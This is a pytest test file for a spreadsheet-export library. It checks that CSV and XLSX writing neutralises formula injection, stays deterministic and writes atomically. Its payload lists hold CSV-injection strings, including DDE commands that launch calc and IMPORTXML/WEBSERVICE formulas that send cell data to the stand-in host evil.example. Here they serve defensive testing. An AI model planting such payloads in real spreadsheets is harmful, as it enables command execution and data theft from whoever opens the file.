"""Formula-safe, atomic, deterministic CSV/XLSX writing."""
from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import zipfile

import openpyxl
import pandas as pd
import pytest

from mentoring_lib.io.spreadsheets import neutralise_text, write_csv, write_xlsx

# OWASP CSV-injection payloads plus variants (DDE, hyperlinks, leading whitespace controls, full width)
PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","click")', "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
    "\t=1+1", "\r=1+1", "\n=1+1", "=\t1", "+1+1", "-1-1", "@A1", "=-1", "==1", "+=1", "-=1",
    "\uff1d1+1", "\uff0bcmd", "=DDE(\"cmd\";\"/C calc\";\"A1\")", "=WEBSERVICE(\"http://evil.example\")",
    "=\"a\"&\"b\"", "+358 40 123 4567", "-", "=", "@", "- bullet point in a comment",
]
SAFE_TEXT = ["ok", "<5", "Ä ö å", "a=b", " =not at start", "'already quoted", "100%", "-5", "+3.25", "1e-3"]


def _frame():
    return pd.DataFrame({
        "text": PAYLOADS,
        "num": [(-1) ** i * i for i in range(len(PAYLOADS))],
        "flt": [-0.5 * i for i in range(len(PAYLOADS))],
        "mixed": [p if i % 2 else -i for i, p in enumerate(PAYLOADS)],
    })


def test_neutralise_text_rules():
    for p in PAYLOADS:
        assert neutralise_text(p).startswith("'"), p
    for s in SAFE_TEXT:
        assert neutralise_text(s) == s


def test_xlsx_has_no_formula_and_keeps_numbers(tmp_path):
    df = _frame()
    path = write_xlsx({"=evil": df, "Second": df.rename(columns={"text": "=HYPERLINK(1)"})}, tmp_path / "x.xlsx")
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["=evil", "Second"]  # sheet names are never evaluated
    n_cells = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                n_cells += 1
                assert c.data_type != "f", (ws.title, c.coordinate)
                if isinstance(c.value, str):
                    assert c.data_type == "s"
                    assert not c.value.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) \
                        or c.value in ("-5",), c.value
    assert n_cells == 2 * 4 * (len(PAYLOADS) + 1)
    ws = wb["Second"]
    nums = [c.value for c in ws["B"][1:]]
    assert nums == df["num"].tolist() and all(isinstance(v, int) for v in nums)
    assert [c.value for c in ws["C"][1:]] == pytest.approx(df["flt"].tolist())
    # (XML parsers read a lone CR back as LF)
    assert [c.value for c in ws["A"][1:]] == ["'" + p.replace("\r", "\n") for p in PAYLOADS]
    mixed = [c.value for c in ws["D"][1:]]
    assert mixed[0] == 0 and mixed[2] == -2 and mixed[1] == "'" + PAYLOADS[1]
    # raw XML: no <f> element anywhere
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name)


def test_csv_neutralised_utf8_bom_and_numbers(tmp_path):
    df = _frame()
    df["name"] = ["Äijälä Öhman å"] * len(df)
    path = write_csv(df, tmp_path / "out" / "x.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["text", "num", "flt", "mixed", "name"]
    for row, p in zip(rows[1:], PAYLOADS):
        assert row[0] == "'" + p
        assert row[4] == "Äijälä Öhman å"
    assert [int(r[1]) for r in rows[1:]] == df["num"].tolist()
    assert rows[2][1] == "-1"  # a negative number stays a plain number
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r", "\n")) or cell.lstrip("+-").replace(".", "").isdigit()


def test_csv_index_and_object_cells(tmp_path):
    table = pd.DataFrame({"Yes": [12, "<5"], "No": ["<5", 7]}, index=pd.Index(["=A", "B"], name="school"))
    path = write_csv(table, tmp_path / "t.csv", index=True)
    text = path.read_bytes().decode("utf-8-sig")
    assert text == "school,Yes,No\r\n'=A,12,<5\r\nB,<5,7\r\n"


def test_xlsx_is_deterministic_and_uses_fixed_dates(tmp_path, monkeypatch):
    monkeypatch.delenv("SOURCE_DATE_EPOCH", raising=False)
    df = _frame()
    a = write_xlsx({"A": df}, tmp_path / "a.xlsx").read_bytes()
    b = write_xlsx({"A": df}, tmp_path / "b.xlsx").read_bytes()
    assert hashlib.sha256(a).digest() == hashlib.sha256(b).digest()
    wb = openpyxl.load_workbook(tmp_path / "a.xlsx")
    assert wb.properties.created == dt.datetime(2000, 1, 1)
    assert wb.properties.modified == dt.datetime(2000, 1, 1)
    with zipfile.ZipFile(tmp_path / "a.xlsx") as z:
        assert {i.date_time for i in z.infolist()} == {(2000, 1, 1, 0, 0, 0)}
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1767225600")  # 2026-01-01
    c = write_xlsx({"A": df}, tmp_path / "c.xlsx")
    assert openpyxl.load_workbook(c).properties.created == dt.datetime(2026, 1, 1)


def test_csv_is_deterministic(tmp_path):
    df = _frame()
    assert write_csv(df, tmp_path / "a.csv").read_bytes() == write_csv(df, tmp_path / "b.csv").read_bytes()


def test_atomic_write_leaves_old_file_on_failure(tmp_path):
    path = write_csv(pd.DataFrame({"a": [1]}), tmp_path / "x.csv")
    before = path.read_bytes()

    class Boom:
        def __str__(self):
            raise RuntimeError("boom")

    with pytest.raises(RuntimeError):
        write_xlsx({"A": pd.DataFrame({"a": [Boom()]})}, tmp_path / "x.csv")
    assert path.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["x.csv"]


def test_xlsx_values_dates_missing_and_control_chars(tmp_path):
    tz = "Europe/Helsinki"
    df = pd.DataFrame({
        "when": pd.to_datetime(["2026-09-01 10:00", None]).tz_localize(tz),
        "day": [dt.date(2026, 9, 1), None],
        "flag": [True, False],
        "text": ["bell\x07char", pd.NA],
        "x": [float("nan"), 2.5],
    })
    path = write_xlsx({"S": df}, tmp_path / "d.xlsx")
    ws = openpyxl.load_workbook(path)["S"]
    assert ws["A2"].value == dt.datetime(2026, 9, 1, 10, 0)
    assert ws["A3"].value is None
    assert ws["C2"].value is True
    assert ws["D2"].value == "bellchar"
    assert ws["D3"].value is None and ws["E2"].value is None and ws["E3"].value == 2.5


def test_sheet_names_sanitised_and_unique(tmp_path):
    df = pd.DataFrame({"a": [1]})
    path = write_xlsx({"a/b": df, "a:b": df, "x" * 40: df, "@x": df}, tmp_path / "s.xlsx")
    names = openpyxl.load_workbook(path).sheetnames
    assert names[0] == "a_b" and names[1] == "a_b (2)" and len(names[2]) == 31
    assert len(set(names)) == 4


from hypothesis import given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

_DANGER = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20", "", "a"])


@pytest.mark.slow
@settings(max_examples=30, deadline=None)
@given(st.lists(st.tuples(_DANGER, st.text(max_size=12)), min_size=1, max_size=8))
def test_random_text_never_becomes_a_formula(tmp_path_factory, cells):
    texts = [a + b for a, b in cells]
    df = pd.DataFrame({"t": texts, "n": range(-len(texts), 0)})
    d = tmp_path_factory.mktemp("h")
    ws = openpyxl.load_workbook(write_xlsx({"S": df}, d / "h.xlsx"))["S"]
    for row in ws.iter_rows(min_row=2):
        assert row[0].data_type != "f" and row[1].data_type == "n" and row[1].value < 0
        v = row[0].value
        if isinstance(v, str) and v[:1] in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20":
            assert neutralise_text(v) == v  # only plain numbers may start so
    raw = write_csv(df, d / "h.csv").read_bytes().decode("utf-8-sig")
    for row in csv.reader(io.StringIO(raw, newline="")):
        cell = row[0]
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n"):
            assert neutralise_text(cell) == cell


@pytest.mark.parametrize("dtype", ["str", "object"])
def test_control_character_before_a_formula_does_not_defeat_neutralisation(tmp_path, dtype):
    # XML cannot hold \x01: it is removed, and what is left must still be neutralised
    payloads = ['\x01=HYPERLINK("http://x.example","y")', "\x02+cmd|'/C calc'!A0", "\x1f@SUM(1)", "\x0b-2+3"]
    write_xlsx({"s": pd.DataFrame({"a": pd.Series(payloads, dtype=dtype)})}, tmp_path / "c.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "c.xlsx").active
    values = [c.value for c in ws["A"][1:]]
    assert values == ["'" + p[1:] for p in payloads]


# -- semicolon-separated reading (Excel in Finnish and other decimal-comma locales) ---------------

SEPARATOR_PAYLOADS = ["text;=1+1", "a,=1+1", "x;+cmd|' /C calc'!A0", "ok;@SUM(1)", "b;-2+3", "c;\uff1d1",
                      "=1;=2", 'q"uote;=HYPERLINK("http://evil.example")', "1;-5", "plain; text"]


def _cells_split_on(raw: str, sep: str, *, quotes: bool) -> list[str]:
    """The cells a spreadsheet shows when it splits the CSV on ``sep`` (with or without honouring quotes)."""
    if quotes:
        return [c for row in csv.reader(io.StringIO(raw, newline=""), delimiter=sep) for c in row]
    return [c for line in raw.splitlines() for c in line.split(sep)]


@pytest.mark.parametrize("sep", [",", ";"])
@pytest.mark.parametrize("quotes", [True, False], ids=["quote-aware", "naive-split"])
def test_csv_cell_with_a_separator_never_becomes_a_formula_when_split_on_either(tmp_path, sep, quotes):
    df = pd.DataFrame({"comment": SEPARATOR_PAYLOADS, "n": range(len(SEPARATOR_PAYLOADS))})
    raw = write_csv(df, tmp_path / "mail_merge.csv").read_bytes().decode("utf-8-sig")
    cells = _cells_split_on(raw, sep, quotes=quotes)
    assert sum("=1+1" in c for c in cells) == 2  # the payloads are there, defused
    for cell in cells:
        cell = cell.strip('"')
        if cell[:1] in ("=", "+", "-", "@", "\t", "\uff1d", "\uff0b", "\uff0d", "\uff20"):
            assert neutralise_text(cell) == cell, (sep, cell)  # only a plain number may start so


def test_csv_quotes_cells_holding_a_semicolon_and_keeps_plain_cells_as_they_were(tmp_path):
    df = pd.DataFrame({"comment": ["text;=1+1", "plain", "1;-5"], "n": [1, -2, 3]})
    text = write_csv(df, tmp_path / "x.csv").read_bytes().decode("utf-8-sig")
    assert text == "comment,n\r\n\"text;'=1+1\",1\r\nplain,-2\r\n\"1;'-5\",3\r\n"
    # a quote-aware reader on ';' keeps each such cell whole
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[1] == ["text;'=1+1,1"]


def test_csv_single_empty_column_keeps_its_rows(tmp_path):
    df = pd.DataFrame({"a": ["", "x"]})
    text = write_csv(df, tmp_path / "x.csv").read_bytes().decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["a"], [""], ["x"]]
